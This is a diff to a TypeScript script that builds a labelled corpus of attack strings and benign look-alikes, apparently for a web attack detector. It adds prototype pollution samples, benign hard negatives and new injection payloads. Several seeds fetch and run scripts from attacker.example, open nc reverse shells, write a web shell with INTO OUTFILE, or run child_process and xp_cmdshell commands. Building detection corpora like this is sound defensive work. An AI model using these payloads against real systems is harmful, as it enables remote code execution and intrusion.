@@ -3,7 +3,7 @@
 // Deterministic: rerun with `node --import tsx test/corpus/build-corpus.ts` after editing the seeds.
 import { writeFileSync } from "node:fs";
 
-type AttackLabel = "sqli" | "xss" | "traversal" | "rfi" | "cmdi" | "ssrf" | "xxe" | "jndi" | "ssti" | "benign";
+type AttackLabel = "sqli" | "xss" | "traversal" | "rfi" | "cmdi" | "ssrf" | "xxe" | "jndi" | "ssti" | "prototype_pollution" | "benign";
 interface AttackSample { value: string; label: AttackLabel; form?: string }
 
 const seeds: Record<Exclude<AttackLabel, "benign">, string[]> = {
@@ -11,6 +11,7 @@ const seeds: Record<Exclude<AttackLabel, "benign">, string[]> = {
     "' or 1=1--", "' OR '1'='1", "admin'--", "admin' #", "' or ''='", "1 OR 1=1", "1' ORDER BY 3--+", "' UNION SELECT NULL,NULL--",
     "-1 UNION ALL SELECT username,password FROM users--", "1; DROP TABLE users--", "'; EXEC xp_cmdshell('whoami')--",
     "1 AND SLEEP(5)", "1' AND SLEEP(5)#", "1) OR (1=1", "') OR ('a'='a", "\" OR \"\"=\"", "' AND 1=CONVERT(int,@@version)--",
+    "'; exec master..xp_cmdshell 'ping attacker.example'--", "1 into outfile '/var/www/html/s.php'",
     "1 AND extractvalue(1,concat(0x7e,(SELECT user())))", "1 AND updatexml(1,concat(0x7e,version()),1)", "' OR 1=1 LIMIT 1 -- -",
     "1'; WAITFOR DELAY '0:0:5'--", "1 UNION/**/SELECT/**/1,2,3", "1/*!50000UNION*/ /*!50000SELECT*/ 1,2", "' or true--",
     "' AND (SELECT COUNT(*) FROM information_schema.tables)>0--", "1' and benchmark(10000000,md5(1))--", "'||pg_sleep(5)--",
@@ -47,6 +48,13 @@ const seeds: Record<Exclude<AttackLabel, "benign">, string[]> = {
     "; wget http://attacker.example/s.sh -O /tmp/s.sh", "$(curl -s http://attacker.example/x|sh)", "1;c'a't${IFS}/etc/passwd", "a;/bin/sh -i",
     "| nc -e /bin/sh attacker.example 4444", "\nid\n", "& ping -n 5 127.0.0.1 &", "; powershell -enc SQBFAFgA", "|certutil -urlcache -f http://x/p.exe p.exe",
     "127.0.0.1|whoami", "test; uname -a", "; sleep 10",
+    // PHP, Node.js and Windows batch code; commands run through another; an alias defined.
+    "eval(base64_decode('cGhwaW5mbygpOw=='))", "$_SERVER['HTTP_USER_AGENT']", "shell_exec /**/ ('id')", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
+    "process.mainModule.require('child_process').execSync('id')", "FOR /F \"delims=\" %G IN ('whoami') DO @echo %G", "IF EXIST C:\\boot.ini echo found",
+    "strace ifconfig", "nohup nc -e /bin/sh attacker.example 4444", "alias ls='rm -rf /tmp/x'",
+  ],
+  prototype_pollution: [
+    "__proto__[isAdmin]=true", "constructor[prototype][isAdmin]=true", "__proto__.polluted", "constructor.prototype.toString", "a[__proto__][x]=1",
   ],
   ssrf: [
     "sftp://203.0.113.5/x", "http://6442450943/", "http:169.254.169.254/latest", "http://0x1a9fea9fe/", "http://[::ffff:a9fe:a9fe]/",
@@ -100,6 +108,9 @@ const benign: string[] = [
   "<script type=\"application/ld+json\">{\"@context\":\"https://schema.org\",\"@type\":\"Organization\",\"name\":\"Acme\"}</script>",
   "Team,\nfind the notes attached.\nmore soon", "Check the `limit` setting first", "```sh\nyarn add lodash\n```", "<a href=\"#pricing\">Pricing</a>", "Item \"#4 pencil\" restocked",
   "<?xml version=\"1.0\" encoding=\"UTF-8\"?><invoice><total>12.50</total></invoice>", "Ben&nbsp;&amp;&nbsp;Jerry's&nbsp;ice cream", "I love O'Reilly books", "SELECT your preferred size", "email me; thanks", "50% off | today",
+  "time flies like an arrow", "sudo make me a sandwich", "the child process exited", "if not defined by the user the default is set",
+  "for each item in (list) do it", "process.env.NODE_ENV", "A constructor sets up the prototype chain.", "export into outfile later", "Password is required",
+  "unserialize the payload (JSON) first", "call (user) func", "the information_schema database lists tables", "alias for the user", "timeout 30 seconds",
   "https://localhost.example.com/", "Dear Sir/Madam, please find attached", "Q: what's 2*3? A: 6", "if (a < b) { return a; }", "<%= title %>", "${price}", "Tom's; Jerry's", "Meet me @ 5pm", "ID: 12-34-56",
 ];
 
